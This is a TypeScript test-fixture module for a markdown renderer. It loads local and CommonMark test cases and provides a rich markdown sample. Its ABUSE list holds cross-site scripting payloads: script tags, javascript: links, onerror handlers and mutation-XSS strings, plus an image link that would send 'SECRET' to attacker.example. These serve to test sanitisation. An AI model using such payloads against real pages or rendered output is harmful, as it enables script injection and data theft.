// The texts that the rendering tests use: the project's own, and CommonMark's from npm.
import { createRequire } from "node:module";
import { readFileSync } from "node:fs";

export interface Case {
  class?: string;
  markdown: string;
}

/** The cases of a file of `tests/data`. */
export function cases(name: string): Case[] {
  return JSON.parse(readFileSync(new URL(`../../tests/data/${name}`, import.meta.url), "utf8"));
}

/** The examples of CommonMark's specification, in which → stands for a tab. */
export function commonmark(): Case[] {
  const { tests } = createRequire(import.meta.url)("commonmark-spec");
  return tests.map((test: Case) => ({ markdown: test.markdown.replaceAll("→", "\t") }));
}

/** Texts that try to load from elsewhere or to run something, in many ways at once. */
export const ABUSE: Case[] = [
  { class: "image", markdown: "![x](https://attacker.example/p.png?q=SECRET) <img src=https://attacker.example/q onerror=alert(1)>" },
  { class: "scheme", markdown: "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>" },
  { class: "html", markdown: "<script>alert(1)</script>\n\n<svg onload=alert(1)>\n\n<iframe srcdoc='<script>alert(1)</script>'>" },
  { class: "math", markdown: "$\\href{javascript:alert(1)}{x}$ $\\text{</math><img src=x onerror=alert(1)>}$ <math><mtext><script>alert(1)</script>" },
  { class: "fence", markdown: '```" onmouseover=alert(1) x="\nx\n```' },
  { class: "mxss", markdown: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\n\n<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">" },
];

/** Markdown of every kind, for the model that answers what it is asked. */
export const RICH = `## What a hearth needs

Some **bold** and *slanted* words, \`code\`, a [link](https://example.org) and a footnote[^1].

### Steps

1. Sweep it
   - below
2. Light it

- [x] wood
- [ ] matches

> A quiet evening.

\`\`\`rust
/// Lights the fire.
fn light(fire: &mut Fire) -> Result<(), Wet> { fire.add("oak", 3)?; Ok(()) }
\`\`\`

| Wood | Burns |
|:-----|------:|
| Oak  | 3 h   |
| Pine | 1 h   |

The heat is $Q = mc\\,\\Delta T$, and

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

---

[^1]: So it is said.`;
